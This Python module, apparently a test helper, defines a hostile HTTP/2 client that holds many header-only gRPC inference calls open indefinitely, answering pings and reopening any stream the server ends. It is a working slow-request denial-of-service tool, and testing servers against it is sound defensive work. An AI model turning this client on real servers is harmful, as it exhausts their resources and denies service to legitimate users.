"""Hostile HTTP/2 clients, written with the h2 package: streams that send HEADERS for a gRPC
method and never the request message, held open (PINGs answered) until closed."""

from __future__ import annotations

import socket
import threading

import h2.config
import h2.connection
import h2.events
import h2.exceptions

__all__ = ["HeaderOnlyStreams"]


class HeaderOnlyStreams:
    """`streams` header-only calls to `method` on one connection, kept open until close().

    A thread answers the server's frames (settings, pings, window updates) as a live client
    would, so keepalive does not end the connection; `ended` counts streams the server ended
    (reset, or answered with a status), each replaced by a new one so `streams` stay open.
    """

    def __init__(
        self,
        address: str,
        streams: int,
        method: str = "/inference.GRPCInferenceService/ModelInfer",
        metadata: tuple[tuple[str, str], ...] = (),
    ) -> None:
        host, port = address.rsplit(":", 1)
        self._socket = socket.create_connection((host, int(port)), timeout=10)
        self._socket.settimeout(None)
        self._connection = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self._lock = threading.Lock()
        self._closed = threading.Event()
        self.ended = 0
        self.opened = 0
        self._live: set[int] = set()
        with self._lock:
            self._connection.initiate_connection()
            self._flush()
        self._reader = threading.Thread(target=self._read, name="h2-attacker", daemon=True)
        self._reader.start()
        self._headers = [(":method", "POST"), (":scheme", "http"), (":path", method),
                         (":authority", address), ("content-type", "application/grpc"),
                         ("te", "trailers"), *metadata]  # fmt: skip
        for _ in range(streams):
            with self._lock:
                self._open_stream()
                self._flush()

    def _open_stream(self) -> None:
        stream_id = self._connection.get_next_available_stream_id()
        self._connection.send_headers(stream_id, self._headers, end_stream=False)
        self._live.add(stream_id)
        self.opened += 1

    def _flush(self) -> None:
        data = self._connection.data_to_send()
        if data:
            self._socket.sendall(data)

    def _read(self) -> None:
        while not self._closed.is_set():
            try:
                data = self._socket.recv(65536)
            except OSError:
                return
            if not data:
                return
            with self._lock:
                try:
                    self._answer(self._connection.receive_data(data))
                    self._flush()
                except (h2.exceptions.ProtocolError, OSError):  # the server or close() ended it
                    return

    def _answer(self, events: list[h2.events.Event]) -> None:
        for event in events:
            if not isinstance(event, h2.events.StreamReset | h2.events.StreamEnded):
                continue
            if event.stream_id in self._live:
                self._live.discard(event.stream_id)
                self.ended += 1
                if not self._closed.is_set():
                    self._open_stream()

    def close(self) -> None:
        self._closed.set()
        try:
            self._socket.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self._socket.close()
        self._reader.join(5)
